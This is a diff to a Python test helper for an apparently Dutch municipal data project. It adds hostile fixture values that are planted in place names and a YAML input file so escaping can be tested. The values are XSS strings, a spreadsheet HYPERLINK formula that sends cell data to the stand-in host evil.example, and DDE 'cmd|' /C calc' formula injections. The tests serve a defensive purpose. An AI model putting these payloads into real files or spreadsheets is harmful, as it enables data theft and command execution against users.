@@ -6,10 +6,29 @@ import json
 from pathlib import Path
 
 import pandas as pd
+import yaml
 
 EVIL_GEMEENTE = "Bunnik <img src=x onerror=alert(1)> \"quote\" 'single' & Súdwest"
 EVIL_CENTRUM = 'Delft <script>alert("x")</script>'
-RENAMES = {"Bunnik": EVIL_GEMEENTE, "Delft": EVIL_CENTRUM}
+EVIL_FORMULA = '=HYPERLINK("http://evil.example/?d="&A1;"Houten")'
+"""A gemeente name a spreadsheet would run as a formula, were it not neutralised."""
+RENAMES = {"Bunnik": EVIL_GEMEENTE, "Delft": EVIL_CENTRUM, "Houten": EVIL_FORMULA}
+FORMULA_TEXTS = {
+    "provider": "+cmd|' /C calc'!A0",
+    "help": "-2+3+cmd|' /C calc'!A0",
+    "commentary": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+"""Text in Utrecht's input file that begins as a formula (a provider, its help, the commentary)."""
+
+
+def plant_formulas(data: Path) -> None:
+    """Put :data:`FORMULA_TEXTS` in Utrecht's input file (a provider's name and help, the commentary)."""
+    path = data / "regios" / "GM0344" / "regiovisie.yaml"
+    doc = yaml.safe_load(path.read_text(encoding="utf-8"))
+    doc["aanbieders"][0]["naam"] = FORMULA_TEXTS["provider"]
+    doc["aanbieders"][0]["hulp"] = FORMULA_TEXTS["help"]
+    doc["commentaar"]["meldingen"] = FORMULA_TEXTS["commentary"]
+    path.write_text(yaml.safe_dump(doc, allow_unicode=True, sort_keys=False), encoding="utf-8")
 
 
 def rename_gemeenten(data: Path, renames: dict[str, str]) -> None:
@@ -30,3 +49,4 @@ def rename_gemeenten(data: Path, renames: dict[str, str]) -> None:
         name = feature["properties"]["statnaam"]
         feature["properties"]["statnaam"] = renames.get(name, name)
     geo.write_text(json.dumps(doc, ensure_ascii=False), encoding="utf-8")
+
